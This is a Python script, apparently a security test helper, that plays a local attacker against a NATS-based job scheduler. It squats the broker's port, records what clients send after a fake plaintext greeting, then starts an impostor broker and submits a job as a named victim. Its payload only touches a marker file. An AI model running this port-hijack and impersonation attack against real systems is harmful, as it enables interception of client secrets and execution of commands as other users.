#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""An attacker without a key who takes the broker's port, first to listen, then to pose as the
broker.

Usage: squatter.py PORT NATS_SERVER FOLDER VICTIM

It prints `bound` when it has the port. Each line on standard input is an order: `heard` prints the
first bytes of every connection so far, as hex; `pose` starts another nats-server on the port and
submits a job as the victim. It uses the standard library alone, since a plain user has no more.
"""

import json
import pathlib
import socket
import ssl
import subprocess
import sys
import threading
import time

INFO = b'INFO {"server_id":"x","version":"2.15.1","proto":1,"headers":true,"nonce":"n0nce"}\r\n'
heard = []


def take(port):
    """Listening socket on the port, as soon as its owner has closed it."""
    while True:
        listener = socket.socket()
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            listener.bind(("127.0.0.1", port))
            listener.listen(64)
            return listener
        except OSError:
            listener.close()


def listen(listener):
    while True:
        try:
            connection, _ = listener.accept()
        except OSError:
            return
        threading.Thread(target=hear, args=(connection,), daemon=True).start()


def hear(connection):
    """Record the first bytes of a client after a greeting in plain text."""
    connection.settimeout(2)
    try:
        connection.sendall(INFO)
        heard.append(connection.recv(4096))
    except OSError:
        heard.append(b"")
    finally:
        connection.close()


def pose(port, server, folder, victim):
    """Start a broker without keys in place of the node's, make the log's stream, and submit a
    job."""
    config = f"""
host: 127.0.0.1
port: {port}
jetstream {{ store_dir: "{folder}/js" }}
tls {{ cert_file: "{folder}/broker.crt", key_file: "{folder}/broker.key", handshake_first: true }}
"""
    pathlib.Path(folder, "own.conf").write_text(config, encoding="utf-8")
    subprocess.Popen([server, "-D", "-c", f"{folder}/own.conf", "-l", f"{folder}/own.log"])
    stream = connected(port)
    request = json.dumps({"argv": ["touch", f"{folder}/got-in"]})
    made = json.dumps({"name": "SCHED_LOG", "subjects": ["stoker.v1.log.entry"]})
    stream.sendall(b'CONNECT {"verbose":false}\r\n')
    for subject, text in (
        ("$JS.API.STREAM.CREATE.SCHED_LOG", made),
        (f"stoker.v1.user.{victim}.job.submit", request),
    ):
        stream.sendall(f"PUB {subject} {len(text)}\r\n{text}\r\n".encode())
    stream.sendall(b"PING\r\n")
    while b"PONG" not in stream.recv(65536):
        pass
    return stream


def connected(port):
    careless = ssl.create_default_context()
    careless.check_hostname, careless.verify_mode = False, ssl.CERT_NONE
    while True:
        try:
            return careless.wrap_socket(socket.create_connection(("127.0.0.1", port), 5))
        except OSError:
            time.sleep(0.02)


def main(port, server, folder, victim):
    listener = take(int(port))
    print("bound", flush=True)
    threading.Thread(target=listen, args=(listener,), daemon=True).start()
    for order in sys.stdin:
        if order.strip() == "heard":
            print(json.dumps([data[:512].hex() for data in heard]), flush=True)
        else:
            listener.shutdown(socket.SHUT_RDWR)
            listener.close()
            kept = pose(port, server, folder, victim)
            print("posed", kept.version(), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
